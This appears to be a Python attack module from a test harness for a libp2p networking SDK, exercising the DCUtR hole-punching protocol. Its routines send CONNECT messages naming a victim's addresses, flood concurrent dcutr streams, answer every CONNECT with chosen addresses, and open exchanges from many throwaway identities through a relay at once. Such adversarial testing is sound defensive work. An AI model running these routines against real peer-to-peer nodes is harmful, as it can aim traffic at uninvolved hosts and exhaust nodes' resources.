"""DCUtR attacks: CONNECT naming a victim's address, over a direct or a relayed connection,
and floods of ``/libp2p/dcutr`` streams."""

from __future__ import annotations

import contextlib
from typing import Any

import multiaddr
import trio
from _attacker import attack
from libp2p.custom_types import TProtocol
from libp2p.peer.id import ID

from ucsdk._wire import read_delimited, write_delimited
from ucsdk.proto import HolePunch

DCUTR = TProtocol("/libp2p/dcutr")
CONNECT, SYNC = 100, 300


def _message(kind: int, addrs: list[str] = ()) -> bytes:  # type: ignore[assignment]
    message = HolePunch(type=kind)
    for addr in addrs:
        message.ObsAddrs.append(multiaddr.Multiaddr(addr).to_bytes())
    return bytes(message.SerializeToString())


async def _exchange(host: Any, peer: ID, addrs: list[str], wait: float) -> dict[str, Any]:
    """One CONNECT naming ``addrs``, then SYNC as soon as CONNECT is answered."""
    try:
        with trio.fail_after(10):
            stream = await host.new_stream(peer, [DCUTR])
    except Exception as exc:
        return {"opened": False, "ended": type(exc).__name__, "answered": False}
    ended, answered = "timeout", False
    with trio.move_on_after(wait):
        try:
            await write_delimited(stream, _message(CONNECT, addrs))
            reply = HolePunch.FromString(await read_delimited(stream, 4096))
            answered = reply.type == CONNECT
            await write_delimited(stream, _message(SYNC))
            while await stream.read(4096):
                pass
            ended = "eof"
        except Exception as exc:
            ended = "reset" if "reset" in type(exc).__name__.lower() else type(exc).__name__
    with trio.move_on_after(2), contextlib.suppress(Exception):
        await stream.reset()
    return {"opened": True, "ended": ended, "answered": answered}


@attack("dcutr_connect")
async def dcutr_connect(host: Any, args: dict[str, Any]) -> dict[str, Any]:
    """On a connection already open to ``args["peer"]``: CONNECT naming ``args["addrs"]``
    then SYNC. ``{"opened", "answered" (a CONNECT came back), "ended"}``."""
    return await _exchange(host, ID.from_base58(args["peer"]), args["addrs"], args.get("wait", 5))


@attack("relay_dial")
async def relay_dial(host: Any, args: dict[str, Any]) -> str:
    """Connect to ``args["peer"]`` through the relay at ``args["relay_addr"]`` (with
    ``/p2p/<relay>``); the type of the connection that results."""
    from ucsdk.nat.relay import CircuitRelayClient

    relay_addr, relay_id = args["relay_addr"].split("/p2p/")
    client = CircuitRelayClient(host)
    conn = await client.dial(args["peer"], relay_id, relay_addr)
    return str(conn.get_transport_addresses())


@attack("dcutr_flood")
async def dcutr_flood(host: Any, args: dict[str, Any]) -> dict[str, int]:
    """``args["count"]`` concurrent exchanges naming ``args["addrs"]``; how they ended."""
    peer = ID.from_base58(args["peer"])
    outcomes: dict[str, int] = {}

    async def one() -> None:
        result = await _exchange(host, peer, args["addrs"], args.get("wait", 5))
        key = "answered" if result["answered"] else result["ended"]
        outcomes[key] = outcomes.get(key, 0) + 1

    async with trio.open_nursery() as nursery:
        for _ in range(int(args["count"])):
            nursery.start_soon(one)
    return outcomes


@attack("dcutr_answer_with")
async def dcutr_answer_with(host: Any, args: dict[str, Any]) -> bool:
    """From now on, answer every CONNECT on ``/libp2p/dcutr`` with ``args["addrs"]`` (as
    the peer being upgraded, ``A``), whatever the other side offered."""
    addrs = list(args["addrs"])

    async def handler(stream: Any) -> None:
        with contextlib.suppress(Exception), trio.move_on_after(30):
            while True:
                message = HolePunch.FromString(await read_delimited(stream, 4096))
                if message.type == CONNECT:
                    await write_delimited(stream, _message(CONNECT, addrs))
        with contextlib.suppress(Exception):
            await stream.close()

    host.set_stream_handler(DCUTR, handler)
    return True


@attack("dcutr_many_identities")
async def dcutr_many_identities(host: Any, args: dict[str, Any]) -> dict[str, int]:
    """``args["count"]`` fresh identities (hosts in this process) each reach ``args["peer"]``
    through the relay at ``args["relay_addr"]`` and open one exchange naming
    ``args["addrs"]``, all at once; how the exchanges ended."""
    from ucsdk.config import ConnectivityConfig
    from ucsdk.host import build_host, disable_auto_dial
    from ucsdk.identity import new_key_pair
    from ucsdk.nat.relay import CircuitRelayClient

    peer = ID.from_base58(args["peer"])
    relay_addr, relay_id = args["relay_addr"].split("/p2p/")
    config = ConnectivityConfig.preset("development", enable_mdns=False)
    outcomes: dict[str, int] = {}
    ready = trio.Event()
    joined = 0
    count = int(args["count"])

    async def one(extra: Any) -> None:
        nonlocal joined
        async with extra.run([multiaddr.Multiaddr("/ip4/127.0.0.1/tcp/0")]):
            await disable_auto_dial(extra)
            await CircuitRelayClient(extra).dial(peer, relay_id, relay_addr)
            joined += 1
            if joined == count:
                ready.set()
            await ready.wait()  # every identity starts its exchange at the same moment
            result = await _exchange(extra, peer, args["addrs"], args.get("wait", 5))
            key = "answered" if result["answered"] else result["ended"]
            outcomes[key] = outcomes.get(key, 0) + 1
            with trio.move_on_after(5):
                await extra.close()

    with trio.fail_after(60):
        async with trio.open_nursery() as nursery:
            for _ in range(count):
                nursery.start_soon(one, build_host(config, new_key_pair()))
    return outcomes
